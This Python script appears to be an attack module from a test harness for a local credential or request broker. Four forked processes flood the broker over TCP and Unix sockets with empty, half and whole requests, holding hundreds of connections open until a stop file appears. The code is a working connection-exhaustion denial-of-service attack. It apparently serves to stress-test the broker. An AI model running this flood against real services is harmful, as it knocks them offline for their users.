"""Takes all it can of the broker: ``flood.py FILE``, until there is such a file.

Connections that say nothing, half requests, whole ones with the agent's phantom, from several processes.
"""

import contextlib
import os
import socket
import subprocess
import sys
from pathlib import Path

import attacker

PROCESSES = 4


def flood(number: int, end: Path) -> None:
    held: list[socket.socket] = []
    while not end.exists():
        with contextlib.suppress(OSError):
            connection = attacker.dial("tcp" if number % 2 else "unix")
            connection.setblocking(False)
            whole = attacker.request()
            connection.send((b"", whole[:50], whole)[len(held) % 3])
            held.append(connection)
        if len(held) >= 900:
            held.pop(0).close()
        if len(held) % 100 == 0:
            subprocess.run([attacker.SET["SHIM"], "get", "nothing"], capture_output=True, check=False)


attacker.ran("floods")
children = []
for number in range(PROCESSES):
    child = os.fork()
    if child == 0:
        flood(number, Path(sys.argv[1]))
        os._exit(0)
    children.append(child)
for child in children:
    os.waitpid(child, 0)
attacker.note("done")
